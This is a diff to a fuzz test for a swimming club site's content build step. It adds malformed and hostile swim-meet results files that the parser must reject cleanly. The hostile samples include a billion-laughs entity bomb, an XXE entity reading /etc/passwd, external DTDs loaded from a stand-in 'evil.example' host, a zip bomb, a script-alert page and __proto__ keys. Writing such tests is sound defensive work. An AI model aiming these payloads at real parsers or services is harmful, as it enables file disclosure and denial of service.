@@ -1,6 +1,7 @@
 // Whatever a volunteer (or a hostile editor) saves in a content file, the content step either
 // reads it or names the file and line of every problem: never a stack trace, never a hang, never
 // markup or a script link into a page. fast-check edits the fixture sets' files the way people do,
+// and their meet results files (content/galas/) the way a bad download or a hostile file would,
 // with a fixed seed and few runs; FUZZ_RUNS=2000 searches longer, FUZZ_SEED=n somewhere else.
 // Run: node scripts/test/node.mjs test/content/any-edit.node.test.ts
 import assert from 'node:assert/strict';
@@ -10,6 +11,7 @@ import { dirname, join } from 'node:path';
 import { after, before, test } from 'node:test';
 import { Worker } from 'node:worker_threads';
 import fc from 'fast-check';
+import { unzipSync, zipSync } from 'fflate';
 import { formatProblem } from '../../scripts/build/content-messages.mjs';
 import { listFiles } from '../../scripts/files.mjs';
 import { testContent, testPublic } from '../../scripts/test/fixture-clubs.mjs';
@@ -225,6 +227,142 @@ const markdownSnippets = [
   '![](images/missing.jpg)',
 ];
 
+// Meet results files: a .lef is XML (the fixtures' meets are written on one line), a .lxf a zip
+// holding one .lef. Edited as stored (a download cut short, bytes flipped), inside the XML, or
+// swapped for a file that is not a meet at all.
+const latin1 = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1');
+const lefName = /\.lef$/i;
+/** The .lef in a zip (undefined if the bytes are no zip, or it holds none); what a bomb's header
+ * says is past 60 MB is not unzipped. */
+function lefIn(bytes: string) {
+  if (!bytes.startsWith('PK')) return undefined;
+  try {
+    const entries = unzipSync(Buffer.from(bytes, 'latin1'), { filter: (f) => lefName.test(f.name) && f.originalSize < 60e6 });
+    const name = Object.keys(entries).find((n) => lefName.test(n));
+    return name === undefined ? undefined : { name, xml: latin1(entries[name]) };
+  } catch {
+    return undefined;
+  }
+}
+/** An edit made to the XML: inside the zip of an .lxf. */
+const inXml = (change: Edit) =>
+  edit(`${fc.stringify(change)} (in the XML)`, (bytes) => {
+    const lef = lefIn(bytes);
+    return lef ? latin1(zipSync({ [lef.name]: Buffer.from(change.apply(lef.xml), 'latin1') })) : change.apply(bytes);
+  });
+const xmlEscaped = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');
+/** The nth value of an attribute (counted modulo how many the file has) replaced. */
+function setAttribute(xml: string, name: string, n: number, value: string) {
+  const pattern = new RegExp(`(\\s${name}=")[^"]*"`, 'g');
+  const count = xml.match(pattern)?.length ?? 0;
+  let k = 0;
+  return count ? xml.replace(pattern, (whole, start) => (k++ === n % count ? `${start}${value}"` : whole)) : xml;
+}
+const oddNumbers = ['', '0', '-1', '1.5', '1e308', '99999999999999999999', 'NaN', 'x', ' 1 '];
+const lenexValues: Record<string, string[]> = {
+  stroke: ['DOGGY', 'free', ' BACK ', '', 'UNKNOWN', 'IMRELAY', 'SURFACE'],
+  course: ['SCM40', 'scm', ' LCM', '', '50m', 'OPEN', 'SCY'],
+  swimtime: ['0:31,20', '00:00:31.2', '99:99:99.99', '00:60:00.00', '-00:00:31.20', '00:00:00.00', 'NT', '', '12:00:31.20', '00:00:31.20x', '1:02.34'],
+  date: ['2026-02-30', '2026-13-01', '9999-12-31', '0000-00-00', '', '26-09-19', '2026-9-1'],
+  birthdate: ['2030-01-01', '1900-01-01', '0000-00-00', '2014-02-30', '', 'unknown', '2014'],
+  distance: oddNumbers,
+  relaycount: [...oddNumbers, '1000000000', '4'],
+  number: oddNumbers,
+  place: [...oddNumbers, '1', '3'],
+  agemin: oddNumbers,
+  agemax: oddNumbers,
+  eventid: [...oddNumbers, '1', '6', '__proto__', 'constructor'],
+  resultid: [...oddNumbers, '1001', '__proto__'],
+  athleteid: [...oddNumbers, '730101', '__proto__', 'toString'],
+  gender: ['X', '', 'f', 'Q', 'A'],
+  status: ['DSQ', 'dsq', 'DNS', 'EXH', 'BOGUS', '', '__proto__'],
+  round: ['FIN', 'PRE', 'TIMETRIAL', 'BOGUS', '', 'constructor'],
+  firstname: ['', ' ', 'MACLEOD', ...words, ...markup, ...scriptLinks],
+  lastname: ['', ' ', "O'NEIL-MACLEOD", ...words, ...markup, ...scriptLinks],
+  name: ['', 'Test Swimming Club ', 'TEST SWIMMING CLUB', ...words, ...markup, ...scriptLinks],
+  code: ['', 'TSC', 'STRC', ...markup],
+  city: ['', ...words, ...markup, ...scriptLinks],
+};
+/** A value in the XML replaced, written as an XML writer would (escaped), or raw as a hostile one might. */
+const attribute = fc.tuple(fc.constantFrom(...Object.keys(lenexValues)), place, fc.nat(), fc.boolean()).map(([name, n, pick, raw]) => {
+  const value = lenexValues[name][pick % lenexValues[name].length];
+  return edit(`${name}=${shown(value)}${raw ? ' (unescaped)' : ''} at its ${n}th place`, (xml) =>
+    setAttribute(xml, name, n, bytesOf(raw ? value : xmlEscaped(value))),
+  );
+});
+const hugeAttribute = fc
+  .tuple(fc.constantFrom(...Object.keys(lenexValues)), place, fc.integer({ min: 1_000, max: 200_000 }), fc.constantFrom('x', 'é', '9', '&lt;b&gt;', '&amp;'))
+  .map(([name, n, size, unit]) =>
+    edit(`${name}=${shown(unit)} × ${size} at its ${n}th place`, (xml) => setAttribute(xml, name, n, bytesOf(unit.repeat(size)))),
+  );
+const laughs =
+  '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">';
+/** A DOCTYPE before the root, its entities used in a value: billion laughs, XXE, an outside DTD. */
+const doctype = fc
+  .tuple(
+    fc.constantFrom(
+      [`<!DOCTYPE LENEX [${laughs}]>`, '&d;'],
+      ['<!DOCTYPE LENEX [<!ENTITY x SYSTEM "file:///etc/passwd">]>', '&x;'],
+      ['<!DOCTYPE LENEX [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>', 'x'],
+      ['<!DOCTYPE LENEX SYSTEM "http://evil.example/lenex.dtd">', 'x'],
+      ['<!DOCTYPE html>', 'x'],
+      ['', '&x;'],
+      ['', '&lt;script&gt;'],
+    ),
+    place,
+  )
+  .map(([[declared, used], n]) =>
+    edit(`${shown(declared)} and ${used} in a name`, (xml) =>
+      setAttribute(xml.replace(/^(\xEF\xBB\xBF)?(<\?xml[^>]*\?>)?/, `$1$2${declared}`), 'lastname', n, used),
+    ),
+  );
+
+const zipOf = (files: Record<string, string>) =>
+  latin1(zipSync(Object.fromEntries(Object.entries(files).map(([name, text]) => [name, Buffer.from(text, 'latin1')]))));
+let bomb: string | undefined;
+/** 60 MB of nothing zipped to about 60 kB, made once: far past the ratio any meet's XML has. */
+const zipBomb = () => (bomb ??= latin1(zipSync({ 'bomb.lef': new Uint8Array(60 * 1024 * 1024) }, { level: 9 })));
+/** What a bad download or a hostile file holds instead of the meet. */
+const replacements: [string, (bytes: string) => string][] = [
+  ['nothing', () => ''],
+  [
+    'a web page (a download that was a sign-in page)',
+    () => '<!DOCTYPE html>\n<html><head><title>Sign in</title></head>\n<body><script>alert(1)</script></body></html>\n',
+  ],
+  ['a web page without a DOCTYPE', () => '<html><body><p>Not found</p></body></html>'],
+  ['JSON', () => '{"error": "not found"}\n'],
+  ['a PDF', () => '%PDF-1.4\n%\xE2\xE3\xCF\xD3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'],
+  ['record lists but no meet', () => '<?xml version="1.0" encoding="UTF-8"?>\n<LENEX version="3.0"><RECORDLISTS/></LENEX>'],
+  ['a meet with no sessions', () => '<?xml version="1.0"?>\n<LENEX version="3.0"><MEETS><MEET name="x" course="SCM"/></MEETS></LENEX>'],
+  ['an XML declaration of an unknown encoding', (b) => b.replace(/^(<\?xml[^>]*?)encoding="[^"]*"/, '$1encoding="x-klingon"')],
+  ['an XML declaration of UTF-16', (b) => b.replace(/^(<\?xml[^>]*?)encoding="[^"]*"/, '$1encoding="UTF-16"')],
+  ['a zip with no .lef', (b) => zipOf({ 'results.xml': lefIn(b)?.xml ?? b, 'read me.txt': 'hello' })],
+  ['an empty zip', () => zipOf({})],
+  ['a zip with two .lef', (b) => zipOf({ 'a.lef': '<LENEX/>', 'b.lef': lefIn(b)?.xml ?? b })],
+  ['a zip holding a zip named .lef', (b) => zipOf({ 'meet.lef': zipOf({ 'meet.lef': lefIn(b)?.xml ?? b }) })],
+  ['a zip whose .lef is stored, not compressed', (b) => latin1(zipSync({ 'meet.lef': Buffer.from(lefIn(b)?.xml ?? b, 'latin1') }, { level: 0 }))],
+  [
+    'a zip compressed a way fflate does not know (method 99)',
+    (b) => {
+      const z = lefIn(b) ? b : zipOf({ 'meet.lef': b });
+      return `${z.slice(0, 8)}c\x00${z.slice(10)}`;
+    },
+  ],
+  ['a zip bomb', () => zipBomb()],
+  ['a 51 MB file', () => `<?xml version="1.0"?>\n<LENEX>${' '.repeat(51 * 1024 * 1024)}</LENEX>`],
+];
+const replaced = fc.constantFrom(...replacements).map(([name, apply]) => edit(`the file replaced by ${name}`, apply));
+const lenexEdits = [
+  ...fileEdits,
+  ...fileEdits.map((change) => change.map(inXml)),
+  typed([...marks, ...words, ...markup]).map(inXml),
+  attribute.map(inXml),
+  attribute.map(inXml),
+  hugeAttribute.map(inXml),
+  doctype.map(inXml),
+  replaced,
+];
+
 /** The kinds of content file, each with the changes people make to it. Another kind (a results
  * file, say) adds its files' pattern (in a content folder) and its edits here. */
 const kinds = [
@@ -234,6 +372,7 @@ const kinds = [
     pattern: /^news\/[^/]+\.md$/,
     edits: [...fileEdits, typed([...marks, ...words, ...markdownSnippets]), written([...yamlValues, ...markdownSnippets]), huge, aliasBomb],
   },
+  { name: 'Lenex', pattern: /^galas\/[^/]+\.(lef|lxf)$/i, edits: lenexEdits },
 ];
 const kindOf = (file: string) => kinds.find((kind) => kind.pattern.test(file));
 
@@ -308,13 +447,24 @@ const lineCount = (bytes: string) => bytes.split(/\r\n|\r|\n/).length;
 
 /** Every problem names a file and a line in it, in words. */
 function assertNamed(problems: Problem[], files: Map<string, string>) {
+  // Counted once a file: a file of 20,000 doubled lines has 20,000 problems.
+  const counted = new Map<string, number | undefined>();
+  const linesOf = (file: string) => {
+    if (!counted.has(file)) {
+      const stored = files.get(file);
+      counted.set(file, stored === undefined ? undefined : lineCount(lefIn(stored)?.xml ?? stored)); // an .lxf's lines are its .lef's
+    }
+    return counted.get(file);
+  };
   for (const problem of problems) {
     const said = formatProblem(problem);
     assert.ok(typeof problem.file === 'string' && problem.file.length > 0 && Number.isInteger(problem.line) && problem.line >= 1, `no file and line: ${said}`);
     assert.ok(typeof problem.message === 'string' && problem.message.trim().length > 0, `no message: ${said}`);
     assert.doesNotMatch(problem.message, /\n\s+at |\[object /, `not words: ${said}`);
-    const bytes = files.get(problem.file.replace(/^content\//, ''));
-    if (bytes !== undefined) assert.ok(problem.line <= lineCount(bytes), `${said}\n(the file has ${lineCount(bytes)} lines)`);
+    // A long value is quoted cut short (the fixtures' meets list two clubs).
+    assert.ok(problem.message.length <= 2000, `a message of ${problem.message.length} characters: ${said.slice(0, 300)}…`);
+    const lines = linesOf(problem.file.replace(/^content\//, ''));
+    if (lines !== undefined) assert.ok(problem.line <= lines, `${said}\n(the file has ${lines} lines)`);
   }
 }
 
@@ -375,9 +525,17 @@ test('reads every fixture set as it is, so the edits below start from good conte
 });
 
 test('reads any edit to a content file, or names the file and line of each problem: no stack trace, no hang, no markup or script link', async () => {
+  // A set's meet files are a few among many: picked a third of the time.
+  const fileOf = (set: FixtureSet) => {
+    const meets = set.files.filter((f) => kindOf(f)!.name === 'Lenex');
+    const others = set.files.filter((f) => !meets.includes(f));
+    return meets.length && others.length
+      ? fc.oneof({ arbitrary: fc.constantFrom(...others), weight: 2 }, { arbitrary: fc.constantFrom(...meets), weight: 1 })
+      : fc.constantFrom(...set.files);
+  };
   const edits = (set: FixtureSet) =>
     fc.array(
-      fc.constantFrom(...set.files).chain((file) => fc.oneof(...kindOf(file)!.edits).map((change) => ({ file, change }))),
+      fileOf(set).chain((file) => fc.oneof(...kindOf(file)!.edits).map((change) => ({ file, change }))),
       { minLength: 1, maxLength: 3 },
     );
   const run = fc.constantFrom(...sets).chain((set) => edits(set).map((changes) => ({ set, changes })));
